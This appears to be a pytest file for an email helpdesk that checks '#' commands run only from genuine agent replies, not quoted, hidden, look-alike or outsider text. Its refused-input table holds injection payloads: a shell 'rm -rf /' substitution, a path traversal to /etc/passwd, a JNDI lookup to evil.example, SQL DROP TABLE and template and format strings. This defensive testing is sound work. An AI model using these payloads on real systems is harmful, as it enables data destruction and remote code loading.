"""Section G: steering lines where none may run, sent with the agent's genuine evidence: a login and their own token."""

from collections.abc import Callable
from email.message import EmailMessage

import pytest

from rules.ticket import Status, Ticket
from tests.hostile.post import EVE
from tests.scenarios.house import ANNA, KARIM, MARIE, SALES, SUPPORT, House, Mail

OUTLOOK = """I look at it.

________________________________
From: Anna Nowak <anna@customer.example>
Sent: Friday, November 6, 2026 10:00 AM
To: Support <support@desk.example>
Subject: My page is empty

#close
#spam
"""
HIDDEN = '<div style="display:none">#close</div><p>I look at it.</p>'


def flowed(mail: EmailMessage) -> EmailMessage:
    """The same mail, its lines to be joined (RFC 3676)."""
    mail.set_param("format", "flowed")
    return mail


def with_file(house: House, told: Mail) -> EmailMessage:
    mail = house.reply(told, "I look at it.")
    mail.add_attachment("#close\n", filename="orders.txt")
    return mail


# id → Marie's answer to her notification; nothing in it is a line to obey
NOT_LINES: dict[str, Callable[[House, Mail], EmailMessage]] = {
    "G03 quoted": lambda house, told: house.reply(told, "> #close\n\nI look at it.", quote=False),
    "G03 quoted below": lambda house, told: house.reply(told, "I look at it.\n\n> #close\n> #spam", quote=False),
    "G04 Outlook's unquoted original": lambda house, told: house.reply(told, OUTLOOK, quote=False),
    "G05 signature": lambda house, told: house.reply(told, "I look at it.\n-- \n#close", quote=False),
    "G06 hidden in HTML": lambda house, told: house.reply(told, html=HIDDEN, quote=False),
    "G07 subject": lambda house, told: house.reply(told, "I look at it.", subject=f"#close {told.subject}"),
    "G08 full width": lambda house, told: house.reply(told, "\uff03close\nbye"),
    "G08 Cyrillic c": lambda house, told: house.reply(told, "#\u0441lose\nbye"),
    "G08 zero width": lambda house, told: house.reply(told, "#clo\u200bse\nbye"),
    "G08 a space": lambda house, told: house.reply(told, "# close\nbye"),
    "G08 another word": lambda house, told: house.reply(told, "#closed\nbye"),
    "G08 a box drawing": lambda house, told: house.reply(told, "\u2317close\nbye"),
    "G15 attached": with_file,
    "G16 flowed": lambda house, told: flowed(house.reply(told, "I look at \n#close \nit.")),
    "G17 list footer": lambda house, told: house.reply(told, f"I look at it.\n\n{'_' * 40}\n#close", quote=False),
    "G12 vacation": lambda house, told: house.reply(told, "#close", Auto_Submitted="auto-replied"),
    "G12 unmarked vacation": lambda house, told: house.reply(
        told, "#close\nI am out of office.", subject="Out of Office: Re: x", X_Autoreply="yes"
    ),
}
REFUSED = {
    "G09 ten thousand lines": "#take\n" * 10_000,
    "G10 shell": "#assign $(rm -rf /)",
    "G10 path": "#assign ../../etc/passwd",
    "G10 template": "#priority {{ 7 * 7 }}",
    "G10 lookup": "#category ${jndi:ldap://evil.example/x}",
    "G10 SQL": "#category '; DROP TABLE ticket; --",
    "G10 format": "#priority %s%n{0.__class__}",
    "G11 two statuses": "#close\n#waiting\nHello.",
    "G11 twice another": "#resolve\n#reopen\nHello.",
    "G13 delete": "#delete",
    "G13 export": "#export all",
    "G13 a rule": "#rules\nthen: {priority: P1}",
    "G13 set": "#set outgoing.held true",
}


def state(ticket: Ticket) -> tuple[object, ...]:
    return ticket.priority, ticket.category, ticket.close_reason, ticket.requester, ticket.participants


async def fresh(house: House, number: int) -> Mail:
    """A ticket of its own for each case; Marie's notification."""
    await house.send(house.write("My page is empty.", who=f"customer{number}@customer.example"))
    told = house.one(MARIE)
    house.got()
    return told


async def test_what_is_no_line_of_the_agents_own_does_not_run(house: House) -> None:
    """Quoted, hidden, in the subject, a file, a signature, in letters that only look alike, or from a machine: nothing
    is closed, and no `#` word that was not understood reaches the customer."""
    for number, (case, write) in enumerate(NOT_LINES.items(), 1):
        told = await fresh(house, number)
        before = await house.ticket(number)
        await house.send(write(house, told))
        after = await house.ticket(number)
        assert after.status in (Status.NEW, Status.IN_PROGRESS), case
        assert state(after) == state(before), case
        heard = [mail for mail in house.got() if mail.recipient not in (MARIE, KARIM)]
        assert len(heard) <= 1, case
        assert not any("lose" in mail.text for mail in heard), case


async def test_lines_that_are_wrong_change_nothing(house: House) -> None:
    """Too many lines, contradictions, words and values that nobody knows, whatever is in them: nothing changes, nobody
    outside hears of it, the agent is told, and what they wrote stays text."""
    told = await fresh(house, 1)
    before = await house.ticket()
    for case, text in REFUSED.items():
        await house.send(house.reply(told, text, quote=False))
        after = await house.ticket()
        assert (state(after), after.status, after.assignee) == (state(before), before.status, before.assignee), case
        assert "Nothing was changed and nothing was sent" in house.one(MARIE).text, case
        assert not house.unread(), case


async def test_who_is_no_agent_steers_nothing(house: House) -> None:
    """G01, G02: a customer's lines are words, a stranger's open a ticket of their own."""
    await house.send(house.write("My page is empty."))
    confirmation = house.one(ANNA)
    house.got()
    before = await house.ticket()
    await house.send(house.reply(confirmation, "#close\n#priority P1"))
    await house.send(house.reply(confirmation, "#close\n#priority P1", who=EVE), sender=EVE)
    ticket = await house.ticket()

    assert (ticket.status, state(ticket)) == (Status.NEW, state(before))
    assert "act" not in await house.outcomes()
    house.got()


async def test_what_was_done_once_is_not_done_again(house: House) -> None:
    """G14: the very mail again, by the same road, later: a duplicate, though the ticket is open again."""
    told = await fresh(house, 1)
    mail = house.reply(told, "#close")
    await house.send(mail)
    house.got()
    await house.send(house.reply(told, "#reopen"))
    house.got()
    mail["Received"] = "from a.example by b.example; Fri, 6 Nov 2026 10:00:00 +0000"
    await house.send(mail)

    assert (await house.ticket()).status is Status.IN_PROGRESS
    assert (await house.outcomes())[1:] == ["act", "act", "duplicate"]


async def test_an_agent_of_another_desk_is_nobody_here(build: Callable[..., House]) -> None:
    """G18: proven as they are, whoever is not among the desk's people does not act there, with a colleague's token or
    without; where they are, they do (Z)."""
    house = build()
    people = {"support": f"marie: {{name: Marie, mail: {MARIE}}}", "sales": f"karim: {{name: Karim, mail: {KARIM}}}"}
    address = {"support": SUPPORT, "sales": SALES}
    house.desks = {
        name: f"desk: {name}\nname: {name}\naddress: {address[name]}\npeople:\n  {who}\n"
        for name, who in people.items()
    }
    await house.open()
    try:
        await house.send(house.write("My page is empty."))
        told = house.one(MARIE)
        house.got()
        await house.send(house.reply(told, "#close", who=KARIM))
        await house.send(house.write("#close", who=KARIM, subject=told.subject))
        assert (await house.ticket()).status is Status.NEW
        assert "act" not in await house.outcomes()
        house.got()
        await house.send(house.write("A price, please.", to=SALES))
        await house.send(house.reply(house.one(KARIM), "#close"))
        assert (await house.outcomes())[-1] == "act"
        house.got()
    finally:
        await house.close()


@pytest.mark.parametrize("text", ["#close", "#CLOSE\n", "#close\n\nBye.\n\nMarie"])
async def test_plain_lines_do_run(house: House, text: str) -> None:
    """Z: the same agent, the same evidence, a plain line on top."""
    told = await fresh(house, 1)
    await house.send(house.reply(told, text))

    assert (await house.ticket()).status is Status.CLOSED
    house.got()
